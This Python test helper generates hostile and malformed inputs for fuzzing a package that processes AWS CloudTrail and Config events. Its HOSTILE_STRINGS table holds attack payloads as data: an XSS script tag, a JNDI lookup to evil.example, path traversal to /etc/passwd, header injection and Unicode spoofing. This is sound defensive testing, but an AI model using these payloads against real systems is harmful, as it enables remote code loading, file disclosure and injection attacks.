"""Hostile and malformed input for the hostile-input suite: deterministic mutations of the real samples
and hypothesis strategies.

- :data:`HOSTILE_STRINGS` and :data:`WRONG_TYPES`: values an attacker (or a broken producer) can put in
  any field of a CloudTrail record: control characters, bidi overrides, zero-width characters, lone
  surrogates, Markdown and mention syntax, masked identifiers, huge strings, every JSON type.
- :func:`record_mutations` enumerates, for one sample, every (path, operator) pair over its CloudTrail
  record: delete the field, replace it with each hostile string and each wrong type, null every leaf
  below it, nest it very deep; plus unknown fields added at every object. :func:`envelope_mutations`
  does the same for the EventBridge envelope. :func:`pick` takes a deterministic, stratified slice of
  them (a fixed seed per sample), so a run is repeatable and the default size stays small.
- :func:`type_sweep`: every field the rules read (requestParameters, responseElements, ...), each set to
  truthy values of the wrong type (a list, an object, a number, ``true``).
- :func:`config_mutations`: the same for AWS Config invocations, inside their JSON-string fields too
  (:func:`config_view` decodes them, :func:`config_encoded` encodes them again), plus broken JSON strings.
- :data:`json_values` and :data:`hostile_text`: hypothesis strategies for JSON-shaped values and hostile text.
- :func:`count` and :func:`hypothesis_settings`: the session's case counter and repeatable hypothesis runs.

Nothing here knows what the package does with these values: the oracles are in the test modules.
"""

from __future__ import annotations

import copy
import json
import random
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from hypothesis import strategies as st

CASES: Counter = Counter()  # suite -> cases checked in this session (printed by conftest's summary)


def count(suite: str, cases: int = 1) -> None:
    """Count ``cases`` checked cases of ``suite`` for the session summary."""
    CASES[suite] += cases


def hypothesis_settings(examples: int):
    """Repeatable hypothesis runs: derandomized, no example database, no deadline (CI machines vary)."""
    from hypothesis import HealthCheck, settings

    return settings(max_examples=examples, deadline=None, derandomize=True, database=None,
                    suppress_health_check=list(HealthCheck))


# EventBridge events are at most 256 KB: a "huge" value has to fit in one.
HUGE = 70_000
# Nesting as deep as a JSON parser running at the recursion limit lets through (json.loads: ~990 levels).
DEEP = 800

HOSTILE_STRINGS: dict[str, str] = {
    "empty": "",
    "blank": "   \t ",
    "masked-hidden": "HIDDEN_DUE_TO_SECURITY_REASONS",
    "masked-account": "123456789012",
    "masked-account-short": "12345678901",
    "masked-stars": "************",
    "masked-arn": "arn:aws:iam::HIDDEN_DUE_TO_SECURITY_REASONS:user/HIDDEN_DUE_TO_SECURITY_REASONS",
    "foreign-partition-arn": "arn:evil\u202e:iam::123456789012:user/x\u200bz",
    "surrogates": "a\ud800b\udfffc\udbff",
    "rtl-override": "admin\u202egnp.exe\u202c\u2067x\u2069",
    "zero-width": "ad\u200bmin\u200c\u200d\u2060\ufeff",
    "control": "x\x00y\x07\x1b[31mred\x1b[0m\r\nSubject: injected\x7f\x85\x9b\u2028\u2029z",
    "newlines": "line1\nline2\rline3\n\nBcc: attacker@example.com",
    "markdown": "<!here> <@U123> @channel @everyone [click](https://evil.example/x) *bold* _it_ `code` "
                "```block``` | a | b | ~strike~ # head > quote &lt;",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "url": "https://evil.example/?q=1#frag javascript:alert(1)",
    "emoji-combining": "\U0001f469\u200d\U0001f4bb e\u0301\u0301\u0301 \uff54\uff45\uff53\uff54 \u6f22\u5b57",
    "format-string": "{0} {__class__} %s %(x)s ${jndi:ldap://evil.example/a}",
    "json-breaker": '"}],"Severity":{"Label":"INFORMATIONAL"},"x":["',
    "path-traversal": "../../../etc/passwd",
    "huge": "A" * HUGE,
    "huge-unicode": "\u20ac\u200b\u202e\x00" * (HUGE // 4),
    "huge-lines": "x\n" * (HUGE // 2),
}

WRONG_TYPES: dict[str, Any] = {
    "null": None,
    "zero": 0,
    "negative": -1,
    "big-int": 2**70,
    "float": 1e308,
    "nan": float("nan"),
    "true": True,
    "false": False,
    "list": [],
    "list-of-null": [None, None],
    "list-of-str": ["a", "b"],
    "object": {},
    "object-of-null": {"": None, "x": None},
}

# A realistic masked record: CloudTrail hides unknown user names, some exports mask ids.
MASKED_IDS = ("HIDDEN_DUE_TO_SECURITY_REASONS", "123456789012", "000000000000", "************", "")


def deep(levels: int = DEEP, leaf: Any = "x") -> Any:
    """A value nested ``levels`` lists deep (as deep as a JSON parser lets an event through)."""
    value = leaf
    for _ in range(levels):
        value = [value]
    return value


def nulled(value: Any) -> Any:
    """``value`` with every leaf below it replaced by ``None`` (nested nulls)."""
    if isinstance(value, dict):
        return {key: nulled(item) for key, item in value.items()}
    if isinstance(value, list):
        return [nulled(item) for item in value]
    return None


@dataclass(frozen=True)
class Mutation:
    """One change to an event: ``where`` (``detail.userIdentity.arn``) and ``what`` (``surrogates``)."""

    where: str
    what: str
    apply: Callable[[dict], dict]

    @property
    def name(self) -> str:
        return f"{self.where}:{self.what}"


Place = tuple  # a path into a JSON value: str keys and int indexes


def paths(value: Any, prefix: Place = (), *, max_items: int = 2) -> Iterator[Place]:
    """Every path below ``value`` (objects by key, lists by index, the first ``max_items`` items)."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield (*prefix, key)
            yield from paths(item, (*prefix, key), max_items=max_items)
    elif isinstance(value, list):
        for index, item in enumerate(value[:max_items]):
            yield (*prefix, index)
            yield from paths(item, (*prefix, index), max_items=max_items)


def get(value: Any, path: Place) -> Any:
    for part in path:
        value = value[part]
    return value


def _set(event: dict, path: Place, new: Any) -> dict:
    event = copy.deepcopy(event)
    parent = get(event, path[:-1])
    parent[path[-1]] = new
    return event


def _delete(event: dict, path: Place) -> dict:
    event = copy.deepcopy(event)
    parent = get(event, path[:-1])
    del parent[path[-1]]
    return event


def _add(event: dict, path: Place, key: str, new: Any) -> dict:
    event = copy.deepcopy(event)
    get(event, path)[key] = new
    return event


def dotted(path: Place) -> str:
    return ".".join(str(part) for part in path) or "(root)"


def value_operators(original: Any) -> list[tuple[str, Callable[[Any], Any]]]:
    """What can be put in place of ``original``: every hostile string and wrong type, nested nulls for
    containers, a very deep nesting, and the original value inside a list or as a string."""
    operators: list[tuple[str, Callable[[Any], Any]]] = []
    operators += [(f"str:{name}", lambda _, text=text: text) for name, text in HOSTILE_STRINGS.items()]
    operators += [(f"type:{name}", lambda _, v=value: copy.deepcopy(v)) for name, value in WRONG_TYPES.items()]
    operators.append(("deep", lambda _: deep()))
    operators.append(("wrapped-in-list", lambda v: [v]))
    operators.append(("as-json-string", lambda v: json.dumps(v, default=str)))
    if isinstance(original, (dict, list)) and original:
        operators.append(("nested-nulls", nulled))
    if isinstance(original, str) and original:
        operators.append(("truncated", lambda v: v[: len(v) // 2]))
        operators.append(("suffix-control", lambda v: v + "\u202e\x00\n[x](y)"))
    return operators


def record_mutations(event: dict) -> list[Mutation]:
    """Every mutation of an EventBridge event's CloudTrail record (its ``detail``), in a fixed order."""
    mutations: list[Mutation] = []
    for path in paths(event["detail"], ("detail",)):
        original = get(event, path)
        where = dotted(path)
        mutations.append(Mutation(where, "deleted", lambda e, p=path: _delete(e, p)))
        for what, make in value_operators(original):
            mutations.append(Mutation(where, what, lambda e, p=path, m=make: _set(e, p, m(get(e, p)))))
    containers = [("detail",)] + [p for p in paths(event["detail"], ("detail",)) if isinstance(get(event, p), dict)]
    for path in containers:
        for name, make in (("unknown-field", lambda: "x"), ("unknown-null", lambda: None),
                           ("unknown-huge", lambda: "B" * HUGE), ("unknown-deep", deep)):
            mutations.append(Mutation(dotted(path), name,
                                      lambda e, p=path, m=make: _add(e, p, "zzUnknown\u202eField", m())))
    return mutations


ENVELOPE_KEYS = ("version", "id", "detail-type", "source", "account", "time", "region", "resources", "detail")


def envelope_mutations(event: dict) -> list[Mutation]:
    """Every mutation of the EventBridge envelope around the record, in a fixed order."""
    mutations: list[Mutation] = []
    for key in ENVELOPE_KEYS:
        if key in event:
            mutations.append(Mutation(key, "deleted", lambda e, k=key: _delete(e, (k,))))
        original = event.get(key)
        for what, make in value_operators(original):
            mutations.append(Mutation(key, what, lambda e, k=key, m=make: _set(e, (k,), m(e.get(k)))))
    mutations += [Mutation("detail-type", f"other:{name}", lambda e, v=value: _set(e, ("detail-type",), v))
                  for name, value in (("scheduled", "Scheduled Event"), ("ec2", "EC2 Instance State-change "
                                      "Notification"), ("insight", "AWS Insight via CloudTrail"))]
    mutations.append(Mutation("source", "other", lambda e: _set(e, ("source",), "aws.config")))
    mutations.append(Mutation("detail", "is-json-string", lambda e: _set(e, ("detail",), json.dumps(e["detail"]))))
    mutations.append(Mutation("detail", "truncated-json-string",
                              lambda e: _set(e, ("detail",), json.dumps(e["detail"])[:-7])))
    mutations.append(Mutation("detail", "is-the-envelope", lambda e: _set(e, ("detail",), copy.deepcopy(e))))
    mutations.append(Mutation("(root)", "unknown-fields",
                              lambda e: {**copy.deepcopy(e), "zz\u202e": None, "replay-name": None,
                                         "detail-type\u200b": "x"}))
    return mutations


# Whole invocations that are not EventBridge events at all (wrong envelope types).
NOT_EVENTS: dict[str, Any] = {
    "none": None,
    "empty-object": {},
    "empty-list": [],
    "list-of-events": "LIST",  # replaced by [sample, sample] in the tests
    "string": "not json",
    "truncated-json": '{"version": "0", "id": "x", "detail-type": "AWS API Call via CloudTrail", "detail": {"ev',
    "number": 42,
    "bool": True,
    "bytes-like": "\x00\x01\x02",
    "config-invocation": {"invokingEvent": "{}", "ruleParameters": "{}", "resultToken": "TESTMODE",
                          "configRuleName": "x"},
    "sqs-batch": {"Records": [{"body": "{}", "eventSource": "aws:sqs"}]},
    "cloudtrail-log-file": "RECORDS",  # replaced by {"Records": [sample detail]} in the tests
    "raw-record": "RAW",  # replaced by the sample's bare detail (not wrapped by EventBridge)
}


def pick(items: list, count: int, seed: str) -> list:
    """``count`` of ``items`` (all when fewer), chosen deterministically: a fixed shuffle per seed, so
    the default run is a repeatable subset of the full one (the same seed's first ``count``)."""
    chosen = list(items)
    random.Random(seed).shuffle(chosen)
    return chosen[:count]


# -- hypothesis strategies ------------------------------------------------------------------------------

# Text with every hostile category over-represented: controls, bidi, zero-width, surrogates, Markdown.
_HOSTILE_ALPHABET = st.sampled_from(
    list("\x00\x07\x0a\x0d\x1b\x7f\x85\x9b\u2028\u2029\u200b\u200d\u202e\u2066\ufeff\ud800\udfff<>[]()*_`~|#@&:/\\\"'{}%$")
)
hostile_text = st.one_of(
    st.text(max_size=40),
    st.text(alphabet=st.one_of(_HOSTILE_ALPHABET, st.characters()), max_size=60),
    st.sampled_from(sorted(HOSTILE_STRINGS)).map(HOSTILE_STRINGS.__getitem__),
    st.sampled_from(MASKED_IDS),
)
json_scalars = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=False), hostile_text,
)
json_values = st.recursive(
    json_scalars,
    lambda children: st.one_of(st.lists(children, max_size=4), st.dictionaries(hostile_text, children, max_size=4)),
    max_leaves=12,
)


# -- AWS Config rule invocations ------------------------------------------------------------------------

CONFIG_JSON_FIELDS = ("invokingEvent", "ruleParameters")  # JSON documents carried as strings


def config_view(invocation: dict) -> dict:
    """The invocation with its JSON-string fields decoded, so that mutations reach inside them."""
    view = copy.deepcopy(invocation)
    for key in CONFIG_JSON_FIELDS:
        if isinstance(view.get(key), str):
            view[key] = json.loads(view[key])
    return view


def config_encoded(view: dict) -> dict:
    """The view back as Config sends it: the decoded fields as JSON strings again (when they are
    objects still; a mutation that made them something else is sent as it is)."""
    invocation = dict(view)
    for key in CONFIG_JSON_FIELDS:
        if isinstance(invocation.get(key), dict):
            invocation[key] = json.dumps(invocation[key], allow_nan=True)
    return invocation


def config_mutations(invocation: dict) -> list[Mutation]:
    """Every mutation of a Config invocation, inside its JSON strings too, in a fixed order; each
    ``apply`` takes and returns the invocation as Config sends it."""
    view = config_view(invocation)
    mutations: list[Mutation] = []

    def over_view(change: Callable[[dict], dict]) -> Callable[[dict], dict]:
        return lambda event: config_encoded(change(config_view(event)))

    for path in paths(view, max_items=2):
        original = get(view, path)
        where = dotted(path)
        mutations.append(Mutation(where, "deleted", over_view(lambda v, p=path: _delete(v, p))))
        for what, make in value_operators(original):
            mutations.append(Mutation(where, what, over_view(lambda v, p=path, m=make: _set(v, p, m(get(v, p))))))
    for key in CONFIG_JSON_FIELDS:
        if key not in invocation:
            continue
        for what, raw in (("truncated-json", lambda s: s[: len(s) // 2]), ("not-json", lambda s: "{not json"),
                          ("json-array", lambda s: "[" + s + "]"), ("json-null", lambda s: "null"),
                          ("json-deep", lambda s: "[" * 5000 + "]" * 5000),
                          ("json-deep-object", lambda s: '{"a":' * 5000 + "1" + "}" * 5000),
                          ("json-nan", lambda s: s.replace("}", ',"x":NaN}', 1)),
                          ("json-surrogate", lambda s: s.replace("}", ',"x":"\\ud800"}', 1)),
                          ("double-encoded", lambda s: json.dumps(s))):
            mutations.append(Mutation(key, f"raw:{what}",
                                      lambda e, k=key, r=raw: {**e, k: r(e[k]) if isinstance(e[k], str) else e[k]}))
    return mutations


# -- sweeps: every field the rules read, each with a value of the wrong type ---------------------------

# Truthy values of the wrong type: what makes ``value.startswith(...)``, ``value in frozenset``,
# ``re.match(..., value)`` or ``value.get(...)`` fail when code assumes a string or an object.
TRUTHY_WRONG_TYPES = ("type:list-of-str", "type:object-of-null", "type:negative", "type:true")
RULE_BLOCKS = ("requestParameters", "responseElements", "additionalEventData", "serviceEventDetails",
               "userIdentity")


def generic_place(path: Place) -> tuple:
    return tuple(part if isinstance(part, str) else 0 for part in path)


def type_sweep(samples: dict[str, dict], operators: tuple[str, ...], *, distinct: bool) -> list[tuple[str, Mutation]]:
    """``(sample name, mutation)`` for every field of the rule-read blocks of every sample's record, with
    each of ``operators`` (:data:`TRUTHY_WRONG_TYPES` names). ``distinct``: each field only once per
    event (``eventSource``, ``eventName``; ``userIdentity`` fields once overall), with one operator
    chosen in turn: the small sweep of the default size."""
    values = {name: value for name, value in WRONG_TYPES.items()}
    cases: list[tuple[str, Mutation]] = []
    seen: set = set()
    turn = 0
    for name in sorted(samples):
        event = samples[name]
        detail = event["detail"]
        for path in paths(detail, ("detail",)):
            if path[1] not in RULE_BLOCKS:
                continue
            if distinct:
                key = generic_place(path) if path[1] == "userIdentity" else (
                    detail.get("eventSource"), detail.get("eventName"), generic_place(path))
                if key in seen:
                    continue
                seen.add(key)
                chosen = (operators[turn % len(operators)],)
                turn += 1
            else:
                chosen = operators
            for operator in chosen:
                value = values[operator.split(":", 1)[1]]
                cases.append((name, Mutation(dotted(path), operator,
                                             lambda e, p=path, v=value: _set(e, p, copy.deepcopy(v)))))
    return cases
